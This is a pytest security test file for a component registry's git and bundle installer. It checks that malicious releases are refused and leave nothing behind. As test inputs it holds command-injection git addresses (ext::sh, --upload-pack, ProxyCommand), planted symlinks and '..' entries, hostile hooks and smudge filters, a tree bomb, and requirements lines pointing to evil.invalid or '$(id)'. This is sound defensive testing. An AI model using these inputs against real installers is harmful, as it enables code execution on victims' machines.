"""A release that attacks who installs it is refused with a sentence, and git sees nothing new in the project."""

from __future__ import annotations

import hashlib
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from autoresearch.ask.registry.git_source import check_url, fetch_files
from autoresearch.ask.registry.installing import write_tree
from autoresearch.errors import AutoresearchError, CannotRunHere, NotFound, Refused, UsageError
from autoresearch.log.blobs import BlobStore
from autoresearch.log.log import Log
from autoresearch.record.kinds import Release
from autoresearch.record.record import Record
from autoresearch.task.release import BUNDLE_BYTES, File, tree_hash
from tests.ask.registry.making import FILE_ALONE, FILES, MAIN, git, installed, publish, repository
from tests.ask.registry.victim import COUNT
from tests.daemon.daemons import wait_for
from tests.record.making import NOW_MS, key
from tests.run.packages.wheels import write_sources

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not on this machine")
pytest.importorskip("git")


@pytest.fixture
def project(tmp_path: Path) -> Iterator[Path]:
    """A project in a repository; after each attack git sees it as it was."""
    folder = tmp_path / "project"
    repository(folder, (File("agent.ini", b"[agent]\n"),))
    yield folder
    assert git(folder, "status", "--porcelain", "--ignored") == ""


@pytest.fixture
def target(project: Path) -> Path:
    return project / ".autoresearch/components/environment/corridor"


def refused(log: Log, blobs: BlobStore, release: Record, target: Path, *, source: str = "git") -> str:
    """What the installation says; it is no traceback, and nothing is there."""
    with pytest.raises((Refused, UsageError, CannotRunHere)) as error:
        installed(log, blobs, release.id, target, source=source, protocols=FILE_ALONE)
    assert not target.exists()
    assert "\n" not in str(error.value)
    return str(error.value)


def from_git(log: Log, blobs: BlobStore, address: str, commit: str, files: tuple[File, ...] = FILES) -> Record:
    """A release whose record says where its files come from; what the record says is signed, and may be anything."""
    honest = publish(log, blobs, files=files)
    assert isinstance(honest.body, Release)
    metadata = {**honest.body.metadata, "git": address, "commit": commit}
    body = msgspec.structs.replace(honest.body, version="1.0.1", metadata=metadata)
    return log.writer.append(key(1), "release", body, now_ms=NOW_MS + 1)


def planted(folder: Path, mode: str, name: str, content: bytes = b"/etc/passwd") -> str:
    """A commit with one more entry, which no work tree could hold; written past git's own checks."""
    if mode == "160000":
        digest = git(folder, "rev-parse", "HEAD")
    else:
        digest = git(folder, "hash-object", "-w", "--stdin", stdin=content)
    whole = subprocess.run(
        ["git", "-C", str(folder), "cat-file", "tree", "HEAD^{tree}"], capture_output=True, check=True
    )
    tree = whole.stdout + f"{mode} {name}".encode() + b"\0" + bytes.fromhex(digest)
    made = git(folder, "hash-object", "-t", "tree", "-w", "--literally", "--stdin", stdin=tree)
    commit = git(folder, "commit-tree", made, "-m", "attack")
    git(folder, "update-ref", "refs/heads/main", commit)
    return commit


# 1 and 2: transports that run a command.
@pytest.mark.parametrize(
    "address",
    [
        "ext::sh -c touch% {mark}",
        "ext::sh%20-c%20touch%20{mark}",
        "--upload-pack=touch {mark}",
        "-u touch {mark}",
        "ssh://-oProxyCommand=touch {mark}/x",
        "https://-oProxyCommand=touch/x",
        "git@github.com:x/y",
        "http://example.org/x",
        "https://ann:secret@example.org/x",
        "https://example.org/x --upload-pack=touch",
        "https://example.org/\nx",
        "fd::7",
        "/etc",
        "",
    ],
)
def test_an_address_that_runs_a_command_is_refused(
    log: Log, blobs: BlobStore, target: Path, tmp_path: Path, address: str
) -> None:
    mark = tmp_path / "mark"
    release = from_git(log, blobs, address.format(mark=mark) or "x:", "ab" * 20)
    assert "is refused: git fetches from https addresses alone" in refused(log, blobs, release, target)
    with pytest.raises(Refused):
        check_url(address.format(mark=mark))
    assert not mark.exists()


# 3: an option in the place of a commit.
@pytest.mark.parametrize(
    "commit", ["--output=/tmp/x", "HEAD", "-h", "main", "ab" * 19, f"{'ab' * 20}\n", "refs/heads/main"]
)
def test_an_option_in_the_place_of_a_commit_is_refused(tmp_path: Path, commit: str) -> None:
    repository(tmp_path / "host")
    with pytest.raises(Refused, match="is no commit"):
        fetch_files(f"file://{tmp_path}/host", commit, protocols=FILE_ALONE)


# 4, 5 and 8: symbolic links, submodules, names that lead elsewhere.
@pytest.mark.slow
@pytest.mark.parametrize(
    ("mode", "name", "why"),
    [
        ("120000", "zlink", "a symbolic link"),
        ("160000", "zmodule", "a submodule"),
        ("100644", "..", None),
        ("100644", ".git", None),
        ("100644", "a\\..\\x", None),
        ("100644", "z\\x", "no file name should have"),
        ("100644", "z\x1b[2Jx", "no file name should have"),
    ],
)
def test_links_submodules_and_names_that_lead_elsewhere_are_refused(
    log: Log, blobs: BlobStore, target: Path, tmp_path: Path, mode: str, name: str, why: str | None
) -> None:
    repository(tmp_path / "host")
    commit = planted(tmp_path / "host", mode, name)
    release = from_git(log, blobs, f"file://{tmp_path}/host", commit)
    with pytest.raises(AutoresearchError) as error:
        installed(log, blobs, release.id, target, source="git", protocols=FILE_ALONE)
    assert why is None or why in str(error.value), "where git itself refuses it, its own sentence is shown"
    assert not target.exists()
    assert "\x1b" not in str(error.value)


# 6 and 7: hooks and filters, of the repository or of this machine's own settings.
@pytest.mark.slow
def test_no_hook_and_no_filter_runs(
    log: Log, blobs: BlobStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = (*FILES, File(".gitattributes", b"* filter=evil text eol=crlf ident\n"), File("id.txt", b"$Id$\n"))
    commit = repository(tmp_path / "host", files)
    mark, hooks = tmp_path / "mark", tmp_path / "hooks"
    hooks.mkdir()
    for name in ("post-checkout", "reference-transaction", "post-index-change", "pre-auto-gc", "fsmonitor-watchman"):
        (hooks / name).write_text(f"#!/bin/sh\ntouch {mark}\n")
        (hooks / name).chmod(0o755)
    settings = tmp_path / "gitconfig"
    runs = f'sh -c "touch {mark}; cat"'
    settings.write_text(
        f"[core]\nhooksPath = {hooks}\nfsmonitor = {hooks}/fsmonitor-watchman\n"
        f"[filter \"evil\"]\nsmudge = '{runs}'\nprocess = '{runs}'\nrequired = true\n"
        f'[init]\ntemplateDir = {tmp_path}/template\n[url "ext::sh -c touch% {mark}"]\ninsteadOf = file://\n'
    )
    shutil.copytree(hooks, tmp_path / "template/hooks")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(settings))
    monkeypatch.setenv("GIT_TEMPLATE_DIR", f"{tmp_path}/template")
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.hooksPath")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(hooks))
    release = from_git(log, blobs, f"file://{tmp_path}/host", commit, files)
    target = tmp_path / "plain" / "corridor"
    installed(log, blobs, release.id, target, source="git", protocols=FILE_ALONE)
    assert not mark.exists()
    assert (target / "main.py").read_bytes() == MAIN
    assert (target / "id.txt").read_bytes() == b"$Id$\n"


# Larger than a component may be: one file, and a small repository that unfolds to millions of files.
@pytest.mark.slow
def test_a_repository_that_is_too_large_is_refused(log: Log, blobs: BlobStore, target: Path, tmp_path: Path) -> None:
    commit = repository(tmp_path / "large", (File("zeros", bytes(BUNDLE_BYTES + 1)),))
    release = from_git(log, blobs, f"file://{tmp_path}/large", commit)
    assert "the commit has 1 files with 32 MiB" in refused(log, blobs, release, target)
    commit = repository(tmp_path / "noise", (File("noise", os.urandom(2 * BUNDLE_BYTES + 1)),))
    release = from_git(log, blobs, f"file://{tmp_path}/noise", commit)
    with pytest.raises(NotFound, match="can't be fetched"):
        installed(log, blobs, release.id, target, source="git", protocols=FILE_ALONE)
    folder = tmp_path / "bomb"
    repository(folder)
    tree = git(folder, "rev-parse", "HEAD^{tree}")
    for _ in range(8):
        entries = "".join(f"040000 tree {tree}\tf{number}\n" for number in range(10))
        tree = git(folder, "mktree", stdin=entries.encode())
    commit = git(folder, "commit-tree", tree, "-m", "bomb")
    git(folder, "update-ref", "refs/heads/main", commit)
    release = from_git(log, blobs, f"file://{folder}", commit)
    assert "larger than a component may be" in refused(log, blobs, release, target)
    assert not target.exists()


# 9: other files than the signed record says, from git and from a bundle.
@pytest.mark.slow
def test_other_files_than_the_record_says_are_refused(log: Log, blobs: BlobStore, target: Path, tmp_path: Path) -> None:
    commit = repository(tmp_path / "host", (File("main.py", MAIN + b"import os\n"), FILES[1]))
    release = from_git(log, blobs, f"file://{tmp_path}/host", commit)
    assert "its files are others than the signed record says" in refused(log, blobs, release, target)
    bundle = blobs.put(b"no archive")
    body = msgspec.structs.replace(release.body, bundle=bundle, version="1.0.2")
    damaged = log.writer.append(key(1), "release", body, now_ms=NOW_MS + 2)
    assert "is not installed: it is no tar archive" in refused(log, blobs, damaged, target, source="bundle")
    other = publish(log, blobs, version="3.0.0", files=(File("main.py", b"class Other: pass\n"),))
    swapped = msgspec.structs.replace(release.body, bundle=other.body.bundle, version="1.0.3")
    record = log.writer.append(key(1), "release", swapped, now_ms=NOW_MS + 3)
    assert "its files are others than the signed record says" in refused(log, blobs, record, target, source="bundle")


# 10: a package that would run its setup.py while versions are looked for.
@pytest.mark.slow
def test_no_setup_py_runs_at_resolution(log: Log, blobs: BlobStore, target: Path, tmp_path: Path, wheels: Path) -> None:
    built = tmp_path / "built"
    write_sources(wheels, "only_sources", "1.0", built)
    release = publish(log, blobs, files=(*FILES, File("requirements.txt", b"only_sources\n")))
    message = refused(log, blobs, release, target, source="bundle")
    assert "its requirements don't fit" in message
    assert "only_sources" in message.replace("-", "_")
    assert not built.exists()


@pytest.mark.parametrize(
    "line",
    ["--index-url https://evil.invalid", "-r /etc/passwd", "x @ file:///etc", "-e .", "./x.whl", "a;b\x00", "$(id)"],
)
def test_a_list_of_packages_holds_packages_alone(log: Log, blobs: BlobStore, target: Path, line: str) -> None:
    honest = publish(log, blobs)
    files = (*FILES, File("requirements.txt", f"{line}\n".encode()))
    other = publish_files(log, blobs, honest, files)
    assert "requirements.txt" in refused(log, blobs, other, target, source="bundle")


def publish_files(log: Log, blobs: BlobStore, honest: Record, files: tuple[File, ...]) -> Record:
    """The same release with files that no honest program would publish."""
    from autoresearch.task.release import pack

    assert isinstance(honest.body, Release)
    metadata = {**honest.body.metadata, "tree": tree_hash(files), "requirements_path": "requirements.txt"}
    body = msgspec.structs.replace(honest.body, version="6.6.6", bundle=blobs.put(pack(files)), metadata=metadata)
    return log.writer.append(key(1), "release", body, now_ms=NOW_MS + 1)


# 11: requirements that do not fit those of the project.
@pytest.mark.slow
def test_requirements_that_do_not_fit_are_told_in_the_words_of_the_resolver(
    log: Log, blobs: BlobStore, target: Path, wheels: Path
) -> None:
    release = publish(log, blobs, files=(*FILES, File("requirements.txt", b"tiny_a\n")))
    with pytest.raises(CannotRunHere) as error:
        installed(log, blobs, release.id, target, beside=["tiny_b>=2"])
    assert "corridor 1.0.0 is not installed: its requirements don't fit" in str(error.value)
    assert "conflicting dependencies" in str(error.value)
    assert "--isolated" in error.value.hint
    assert not target.exists()


# 12: a full disk.
FULL = """
import sys
from pathlib import Path
from autoresearch.errors import Refused
from autoresearch.ask.registry.installing import write_tree
from autoresearch.task.release import File
try:
    write_tree([File("a.py", b"x"), File("b.py", b"x" * 400_000)], Path(sys.argv[1]) / "components" / "corridor")
except Refused as error:
    print(error)
print(sorted(str(path) for path in Path(sys.argv[1]).rglob("*")))
"""


@pytest.mark.slow
def test_a_full_disk_leaves_nothing(tmp_path: Path) -> None:
    place = tmp_path / "small"
    place.mkdir()
    script = f'mount -t tmpfs -o size=200k none "{place}" && exec "{sys.executable}" -c "$1" "{place}"'
    words = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh", FULL]
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    done = subprocess.run(words, env=environment, capture_output=True, text=True, check=False)
    if "mount" in done.stderr or "unshare" in done.stderr:
        pytest.skip("no disk can be made here")
    assert "can't be written: No space left on device; nothing was installed" in done.stdout, done.stderr
    assert done.stdout.splitlines()[-1] == f"['{place}/components']"


# 13: killed in the middle.
@pytest.mark.slow
@pytest.mark.parametrize("after", [1, 200])
def test_killed_in_the_middle_it_leaves_nothing_that_git_sees(project: Path, target: Path, after: int) -> None:
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    process = subprocess.Popen([sys.executable, "-m", "tests.ask.registry.victim", str(target)], env=environment)
    try:
        wait_for(lambda: len(list(project.glob(".autoresearch/**/*.py"))) >= after or process.poll() is not None)
    finally:
        process.send_signal(signal.SIGKILL)
        process.wait()
    whole = list(target.rglob("*.py")) if target.exists() else []
    assert len(whole) in (0, COUNT)
    if not whole:
        assert git(project, "status", "--porcelain") == ""
    shutil.rmtree(target, ignore_errors=True)
    write_tree(list(FILES), target)
    assert hashlib.sha256((target / "main.py").read_bytes()).digest() == hashlib.sha256(MAIN).digest()
    assert [path.name for path in target.parent.iterdir()] == ["corridor"], "the next call removes what was left"
    shutil.rmtree(project / ".autoresearch")
